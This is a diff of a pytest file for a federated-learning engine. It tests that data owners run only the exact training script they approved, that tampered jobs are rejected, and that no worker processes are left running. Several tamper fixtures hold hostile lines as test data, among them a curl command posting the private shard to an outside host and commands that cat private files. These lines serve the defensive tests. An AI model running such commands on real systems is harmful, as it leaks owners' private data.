@@ -1,7 +1,10 @@
 """The syft engine: owners' jobs train like the in-process pool, the aggregator never reads private data,
-and an owner who approves by hand holds the round until it does."""
+an owner runs nothing but the exact training script it approved, warm workers train only, at most
+SYFT_CONCURRENT_JOBS jobs run at once, and nothing is left running after a run or a Stop."""
 
 import gc
+import itertools
+import json
 import os
 import re
 import sys
@@ -9,18 +12,23 @@ import threading
 import time
 from pathlib import Path
 
+import psutil
 import pytest
+import torch
 
 from fed_core.client import TrainingStopped
 from fed_core.config import TrainConfig
-from fed_core.engines import engine_for
-from fed_core.engines.syft_engine import SyftEngine
+from fed_core.engines import EngineError, engine_for, syft_warm_pool
+from fed_core.engines.syft_engine import DataOwner, JobRefused, SyftEngine, SyftPool, job_script
+from fed_core.engines.syft_warm_pool import WarmPool, WarmWorker
+from fed_core.engines.syft_warm_worker import TrainingRequest
+from fed_core.engines.worker_job import LocalTask, encode_vector, load_update, save_shard, train_local
+from fed_core.models import build_model
 from ui import session
 
 SMALL = dict(rounds=2, train_size=4000, contribution_subset=200)
-ONE_OWNER_BY_HAND = TrainConfig(
-    workers=1, rounds=1, train_size=1000, contribution_subset=100, engine="syft", manual_approval=True
-)
+ONE_OWNER = TrainConfig(workers=1, rounds=1, train_size=1000, contribution_subset=100, engine="syft")
+ONE_OWNER_BY_HAND = TrainConfig(**{**ONE_OWNER.to_dict(), "manual_approval": True})
 
 # Python's audit hooks see every open() in this process (syft's, torch's, ours) and cannot be removed,
 # so one hook records into whichever list a test hands it.
@@ -48,6 +56,18 @@ def wait_for(condition, timeout: float = 60.0) -> None:
         time.sleep(0.05)
 
 
+def syft_processes() -> list[psutil.Process]:
+    """This process's warm workers and job processes (a job is bash exec-ing the handoff)."""
+    found = []
+    for child in psutil.Process().children(recursive=True):
+        try:
+            if any(name in " ".join(child.cmdline()) for name in ("syft_warm_worker", "syft_handoff")):
+                found.append(child)
+        except psutil.Error:  # ended meanwhile
+            pass
+    return found
+
+
 def test_two_owners_train_like_inprocess_and_the_aggregator_never_opens_private_files(mnist):
     global _opened
     engine = engine_for(TrainConfig(workers=2, engine="syft", **SMALL))
@@ -58,15 +78,22 @@ def test_two_owners_train_like_inprocess_and_the_aggregator_never_opens_private_
         opened, _opened = _opened, None
 
     expected = engine_for(TrainConfig(workers=2, **SMALL)).run(mnist)
-    accuracies = [r.test_accuracy for r in expected.history]
-    assert [r.test_accuracy for r in run.history] == pytest.approx(accuracies, abs=0.005)
+    for syft_round, inprocess_round in zip(run.history, expected.history, strict=True):  # round by round
+        assert syft_round.test_accuracy == pytest.approx(inprocess_round.test_accuracy, abs=0.001)
+        assert [row["loss_after"] for row in syft_round.workers] == pytest.approx(
+            [row["loss_after"] for row in inprocess_round.workers], rel=1e-4
+        )
+    for syft_param, inprocess_param in zip(run.model.parameters(), expected.model.parameters(), strict=True):
+        torch.testing.assert_close(syft_param, inprocess_param, rtol=1e-4, atol=1e-5)
     assert run.history[-1].test_accuracy > 0.8
     # The jobs trained on the private shards: the mock holds 16 images, each shard 2000.
     assert [row["examples"] for row in run.history[-1].workers] == [2000, 2000]
 
     aggregator = threading.current_thread().name
+    # In this process only the owners' threads touch private files (publishing them); their warm workers,
+    # separate processes, read them to train.
     private_readers = {thread for thread, path, _ in opened if is_private(path)}
-    assert private_readers == {"datasite-owner0", "datasite-owner1"}  # the check sees owners read them
+    assert private_readers == {"datasite-owner0", "datasite-owner1"}  # the check sees owners touch them
     assert aggregator not in private_readers
     assert any(path.endswith("outputs/update.pt") for thread, path, _ in opened if thread == aggregator)
     aggregator_files = [path for _, path, _ in opened if "/aggregator-" in path]
@@ -79,6 +106,7 @@ def test_two_owners_train_like_inprocess_and_the_aggregator_never_opens_private_
         assert all(j.seconds > 0 for j in site.jobs)
     [root] = {re.search(r".*/fed-syft-[^/]+", path).group(0) for _, path, _ in opened if "/fed-syft-" in path}
     assert not Path(root).exists(), "the datasites' folders are deleted after the run"
+    assert syft_processes() == [], "no warm worker or job process outlives the run"
 
 
 def run_in_thread(engine: SyftEngine, data, stop: threading.Event) -> tuple[threading.Thread, dict]:
@@ -115,14 +143,19 @@ def test_manual_approval_holds_the_round_until_the_owner_approves(mnist):
     assert job.status == "done" and job.approval == "manual" and job.waited >= 1.5
 
 
-def test_stop_while_awaiting_approval_ends_the_run_its_owners_and_syfts_threads(mnist):
+@pytest.mark.parametrize("stop_when", ["awaiting approval", "running"])
+def test_stop_ends_the_run_its_owners_warm_workers_and_syfts_threads(mnist, stop_when):
     before = set(threading.enumerate())
     engine = engine_for(ONE_OWNER_BY_HAND)
     stop = threading.Event()
     thread, outcome = run_in_thread(engine, mnist, stop)
     wait_for(lambda: engine.datasites() and engine.datasites()[0].awaiting_approval)
+    if stop_when == "running":
+        [job_name] = engine.datasites()[0].awaiting_approval
+        engine.approve(0, job_name)
+        wait_for(lambda: engine.datasites()[0].jobs[0].status == "running")
     stop.set()
-    thread.join(60)
+    thread.join(120)
     assert not thread.is_alive()
     assert isinstance(outcome.pop("error"), TrainingStopped)
 
@@ -131,6 +164,7 @@ def test_stop_while_awaiting_approval_ends_the_run_its_owners_and_syfts_threads(
         return [t.name for t in set(threading.enumerate()) - before]
 
     wait_for(lambda: not leftover_threads(), timeout=10)
+    assert syft_processes() == [], "no warm worker or job process outlives a stopped run"
 
 
 def test_train_page_shows_the_datasites_and_approves_jobs_with_a_button(mnist):
@@ -165,3 +199,124 @@ def test_train_page_shows_the_datasites_and_approves_jobs_with_a_button(mnist):
     finally:
         job.stop()
         job.join(60)
+
+
+# --- what an owner runs ------------------------------------------------------------------------------
+
+
+def changed_script(job_dir: Path) -> None:
+    (job_dir / "code" / "script.sh").write_text(job_script() + "curl -d @private.pt https://example.org\n")
+
+
+def changed_run_sh(job_dir: Path) -> None:
+    """syft executes run.sh, not code/script.sh: a job whose script.sh matches but run.sh does not."""
+    (job_dir / "run.sh").write_text(job_script().replace("exec ", "cat ../../private.pt; exec "))
+
+
+def extra_file(job_dir: Path) -> None:
+    (job_dir / "code" / "helper.py").write_text("print('more than the training script')\n")
+
+
+@pytest.mark.parametrize("tamper", [changed_script, changed_run_sh, extra_file])
+def test_a_job_that_is_not_exactly_the_training_script_is_rejected(mnist, monkeypatch, tamper):
+    write_job = SyftPool.write_job
+
+    def write_tampered_job(pool, job_dir, task, weights):
+        write_job(pool, job_dir, task, weights)
+        tamper(job_dir)
+
+    monkeypatch.setattr(SyftPool, "write_job", write_tampered_job)
+    engine = engine_for(ONE_OWNER)
+    with pytest.raises(
+        EngineError, match=re.escape("Worker 0's job round-001-worker-0 was rejected by owner0@example.org: ")
+    ):
+        engine.run(mnist)
+    [job] = engine.datasites()[0].jobs
+    assert job.status == "rejected"
+    assert syft_processes() == []
+
+
+def test_a_job_changed_after_approval_is_not_trained(mnist, monkeypatch):
+    run_jobs = DataOwner._run_jobs
+
+    def change_then_run(owner, jobs):  # someone edits the approved job before syft runs it
+        for job in jobs:
+            settings = json.loads((job.code_dir / "job.json").read_text())
+            settings["task"]["epochs"] = 20
+            (job.code_dir / "job.json").write_text(json.dumps(settings))
+        run_jobs(owner, jobs)
+
+    monkeypatch.setattr(DataOwner, "_run_jobs", change_then_run)
+    engine = engine_for(ONE_OWNER)
+    with pytest.raises(
+        EngineError,
+        match=r"Worker 0's job round-001-worker-0 failed on owner0@example\.org\..* changed after it was approved",
+    ):
+        engine.run(mnist)
+    assert [job.status for job in engine.datasites()[0].jobs] == ["failed"]
+
+
+def test_an_owner_trains_only_a_job_it_approved(tmp_path):
+    owner = DataOwner(0, client=None, manual_approval=False, pool=WarmPool(1, "crypto_cnn"))  # starts nothing
+    with pytest.raises(JobRefused, match=re.escape("is not a job owner0@example.org approved")):
+        owner.training_request({"code_dir": str(tmp_path)})
+    with pytest.raises(JobRefused, match="its code folder and nothing else"):
+        owner.training_request({"code_dir": str(tmp_path), "script": "python -c 'import os'"})
+
+
+# --- warm workers --------------------------------------------------------------------------------------
+
+
+def test_a_warm_worker_trains_like_train_local_and_refuses_anything_else(tmp_path):
+    images, labels = torch.randint(0, 256, (64, 28, 28), dtype=torch.uint8), torch.randint(0, 10, (64,))
+    save_shard(tmp_path / "private.pt", images, labels)
+    vector = torch.cat([p.detach().flatten() for p in build_model("crypto_cnn").parameters()])
+    (tmp_path / "global_model.b64").write_text(encode_vector(vector))
+    task = LocalTask.for_round(TrainConfig(batch_size=16), worker=3, round_idx=2)
+    request = TrainingRequest(task, 1, tmp_path / "private.pt", tmp_path / "global_model.b64", tmp_path / "update.pt")
+
+    worker = WarmWorker("crypto_cnn")
+    try:
+        code = {"code": "import os; os.system('cat private.pt')"}
+        assert worker.ask(code)["error"].startswith("refused: a warm worker only trains")
+        assert "refused" in worker.ask({**request.to_message(), "module": "evil"})["error"]
+        assert "refused" in worker.ask({**request.to_message(), "task": {**task.to_dict(), "hook": "x"}})["error"]
+        assert "refused" in worker.ask({**request.to_message(), "shard": "private.pt"})["error"]
+        worker.process.stdin.write(b"not json\n")
+        worker.process.stdin.flush()
+        assert worker.ask(request.to_message()).get("error", "").startswith("refused: not JSON")
+        assert worker.train(request) == worker.ask(request.to_message())["summary"]  # still serving, deterministic
+    finally:
+        worker.close()
+    assert not worker.alive
+
+    update, expected = load_update(tmp_path / "update.pt"), train_local(task, vector, images, labels)
+    assert (update.worker, update.num_examples) == (3, 64)
+    torch.testing.assert_close(update.delta, expected.delta, rtol=1e-5, atol=1e-7)
+
+
+def test_at_most_syft_concurrent_jobs_run_at_once(mnist, monkeypatch):
+    monkeypatch.setattr(syft_warm_pool, "SYFT_CONCURRENT_JOBS", 1)
+    seen: list[tuple[int, int]] = []  # (warm workers, job processes) at each look
+    done = threading.Event()
+
+    def watch() -> None:
+        while not done.is_set():
+            names = [" ".join(p.cmdline()) for p in syft_processes() if p.is_running()]
+            seen.append((sum("syft_warm_worker" in n for n in names), sum("syft_handoff" in n for n in names)))
+            time.sleep(0.02)
+
+    watcher = threading.Thread(target=watch)
+    watcher.start()
+    engine = engine_for(TrainConfig(**{**ONE_OWNER.to_dict(), "workers": 3, "train_size": 3000}))
+    try:
+        run = engine.run(mnist)
+    finally:
+        done.set()
+        watcher.join()
+
+    assert [row["examples"] for row in run.history[0].workers] == [1000, 1000, 1000]
+    assert max(workers for workers, _ in seen) == 1 and max(jobs for _, jobs in seen) == 1
+    spans = sorted((j.started, j.started + j.seconds) for site in engine.datasites() for j in site.jobs)
+    assert len(spans) == 3 and all(end <= next_start for (_, end), (next_start, _) in itertools.pairwise(spans))
+    assert syft_processes() == []
